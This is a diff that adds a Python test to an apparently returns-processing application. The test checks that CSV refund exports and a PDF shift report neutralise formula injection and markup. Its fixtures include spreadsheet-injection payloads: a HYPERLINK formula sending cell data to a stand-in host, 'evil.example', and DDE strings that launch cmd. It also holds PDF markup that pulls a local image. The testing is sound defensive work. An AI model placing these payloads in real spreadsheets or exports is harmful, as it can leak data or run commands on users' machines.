@@ -6,16 +6,19 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import os
+import tempfile
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from sqlalchemy import Engine, func, select
 
-from db.engine import session_factory
+from db.engine import session_factory, write_transaction
 from db.models import (
     OutboxEvent,
     ReceivedUnit,
+    Rma,
     RmaLine,
 )
 from receiving_station.cli import main
@@ -295,3 +298,59 @@ def test_refund_amounts_are_written_in_their_currencys_form() -> None:
     write_csv(rows, person, Writing("sv", "sv_SE"))
     cells = [line.split(";")[9:11] for line in person.getvalue().splitlines()[1:]]
     assert cells == [["1,00", "668,00"], ["1200", "0"], ["99,50", "0"]]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_exported_cell_runs_and_no_product_text_changes_a_pdf(
+    figures_db: Engine, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Order numbers, SKUs and descriptions from an import reach the refunds export and the
+    shift report as written: no CSV cell starts a formula (OWASP's rule), no SKU or description
+    is PDF markup (a bold tag, an image from the disk, a link)."""
+    secret = Path(tempfile.gettempdir()) / f"rs{os.getpid()}.png"  # short: a SKU is 64 at most
+    secret.write_bytes(b"\x89PNG not for the report")
+    markup = ["<b>X", f'<img src="{secret}"/>', '<a href="http://evil">']
+    with write_transaction(session_factory(figures_db)) as session:
+        for n, rma in enumerate(session.scalars(select(Rma).order_by(Rma.id))):
+            rma.order_number = HOSTILE[n % len(HOSTILE)]
+        for n, line in enumerate(session.scalars(select(RmaLine).order_by(RmaLine.id))):
+            line.sku = (HOSTILE + markup)[n % (len(HOSTILE) + len(markup))]
+            line.description = markup[n % len(markup)]
+        for unit in session.scalars(select(ReceivedUnit)):
+            if unit.line is not None:
+                unit.sku = unit.line.sku
+    csv_files = []
+    for language in (None, "sv"):
+        out = tmp_path / f"refunds-{language}.csv"
+        args = ["export", "refunds", "--database", database_url, "--from", "2026-11-20"]
+        args += ["--to", "2026-11-30", "--output", str(out)]
+        assert main([*args, *(["--language", language] if language else [])]) == 0
+        csv_files.append(out.read_text(encoding="utf-8-sig"))
+    for text in csv_files:
+        delimiter = ";" if text.splitlines()[0].count(";") > 1 else ","
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+        assert cells, "nothing exported"
+        starting = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert all(c.lstrip("-").replace(".", "").replace(",", "").isdigit() for c in starting)
+        assert any(c.startswith("'=HYPERLINK(") for c in cells)
+        quoted = {c[1:] for c in cells if c.startswith("'")}
+        assert len(quoted) >= 3 and quoted <= set(HOSTILE), quoted
+
+    out = tmp_path / "shift.pdf"
+    args = ["report", "shift", "--database", database_url, "--date", "2026-11-24"]
+    assert main([*args, "--output", str(out)]) == 0, capsys.readouterr().err
+    pdf = out.read_bytes()
+    text = " ".join(pdf_texts(pdf))
+    assert "<b>X" in text or "<img" in text or "<a href" in text
+    assert b"/Subtype /Image" not in pdf and b"not for the report" not in pdf
+    assert b"/URI" not in pdf and b"/Annots" not in pdf
+    secret.unlink()
